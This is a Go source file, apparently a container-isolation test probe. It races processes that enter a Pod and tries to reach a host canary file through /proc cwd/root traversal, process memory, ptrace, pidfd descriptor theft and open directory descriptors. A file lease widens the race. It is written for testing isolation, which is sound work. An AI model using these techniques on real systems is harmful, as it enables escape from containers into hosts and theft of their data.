// SPDX-License-Identifier: Apache-2.0

package main

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"os"
	"os/signal"
	"slices"
	"strconv"
	"syscall"
)

// race attacks each process that appears in the container until its input ends: between
// its creation and its program it has what the holder of the Pod has. The arguments are a
// file of the host and a path, where it puts a program: the first process that starts it
// waits until it was attacked. Each way that works is a line "ESCAPED"; the last line is
// how many processes were seen.
func race(args []string) error {
	if err := inside(); err != nil {
		return fmt.Errorf("refused: this runs in a Pod of a test alone: %w", err)
	}
	own, err := program(args[1])
	if err != nil {
		return err
	}
	// The kernel asks for the lease when a process is about to become the program.
	asked := make(chan os.Signal, 1)
	signal.Notify(asked, syscall.SIGIO)
	leased, err := os.Open(args[1])
	if err != nil {
		return err
	}
	if err := call(syscall.SYS_FCNTL, leased.Fd(), setLease, syscall.F_WRLCK); err != nil {
		return fmt.Errorf("lease %s: %w", args[1], err)
	}
	over := make(chan struct{})
	go func() {
		_, _ = io.Copy(io.Discard, os.Stdin)
		close(over)
	}()
	fmt.Println("ready")
	seen, held, escaped := map[string]bool{}, 0, map[string]bool{}
	for buffer := make([]byte, 4<<10); ; {
		waits := false
		select {
		case <-asked:
			waits = true
		case <-over:
			fmt.Printf("held %d, saw %d\n", held, len(seen))
			return nil
		default:
		}
		for _, p := range processes(buffer) {
			if p == strconv.Itoa(os.Getpid()) {
				continue
			}
			seen[p] = true
			if waits {
				held++
			}
			for way, where := range attack(p, args[0], own) {
				if !escaped[way] {
					escaped[way] = true
					fmt.Println("ESCAPED:", way, where)
				}
			}
		}
		if waits {
			if err := leased.Close(); err != nil {
				return err
			}
		}
	}
}

// setLease is F_SETLEASE.
const setLease = 1024

// program copies this one to a path, and returns both.
func program(to string) (own []os.FileInfo, err error) {
	b, err := os.ReadFile("/proc/self/exe")
	if err == nil {
		err = os.WriteFile(to, b, 0o755)
	}
	for _, file := range []string{"/proc/self/exe", to} {
		info, serr := os.Stat(file)
		own, err = append(own, info), errors.Join(err, serr)
	}
	return own, err
}

// processes are the ids of all processes, read with few calls.
func processes(buffer []byte) (ids []string) {
	d, err := syscall.Open("/proc", syscall.O_RDONLY|syscall.O_DIRECTORY, 0)
	if err != nil {
		return nil
	}
	defer syscall.Close(d)
	for {
		n, err := syscall.ReadDirent(d, buffer)
		if err != nil || n <= 0 {
			return ids
		}
		_, _, names := syscall.ParseDirent(buffer[:n], -1, nil)
		for _, name := range names {
			if name[0] >= '1' && name[0] <= '9' {
				ids = append(ids, name)
			}
		}
	}
}

// attack returns the ways into a process that has not become a program of the image, and
// out of it to the file.
func attack(pid, file string, own []os.FileInfo) map[string]string {
	found, process := map[string]string{}, "/proc/"+pid
	for _, way := range []string{"cwd", "root"} {
		if b, err := os.ReadFile(process + "/" + way + "/../../.." + file); err == nil && bytes.Equal(b, []byte("secret")) {
			found[way] = process
		}
	}
	// The program of a process that comes from outside is that of the plane.
	foreign := func() bool {
		exe, err := os.Stat(process + "/exe")
		return err == nil && !slices.ContainsFunc(own, func(i os.FileInfo) bool { return os.SameFile(exe, i) })
	}
	if foreign() {
		found["its program"] = process
		if m, err := os.OpenFile(process+"/mem", os.O_RDWR, 0); err == nil {
			m.Close()
			if foreign() {
				found["its memory"] = process
			}
		}
	}
	n, _ := strconv.Atoi(pid)
	if err := syscall.PtraceAttach(n); err == nil {
		found["tracing it"] = process
	}
	if pidfd, _, e := syscall.Syscall(sysPidfdOpen, uintptr(n), 0, 0); e == 0 {
		if err := call(sysPidfdGetfd, pidfd, 0, 0); err == nil {
			found["taking a descriptor"] = process
		}
		syscall.Close(int(pidfd))
	}
	fds, err := os.Open(process + "/fd")
	if err != nil {
		return found
	}
	names, _ := fds.Readdirnames(-1)
	fds.Close()
	for _, fd := range names {
		name := process + "/fd/" + fd
		if b, err := os.ReadFile(name + "/.." + file); err == nil && bytes.Equal(b, []byte("secret")) {
			found["above a descriptor"] = name
		}
		if info, err := os.Stat(name); err == nil && info.IsDir() {
			to, _ := os.Readlink(name)
			found["a folder that is open"] = name + " " + to
		}
	}
	return found
}
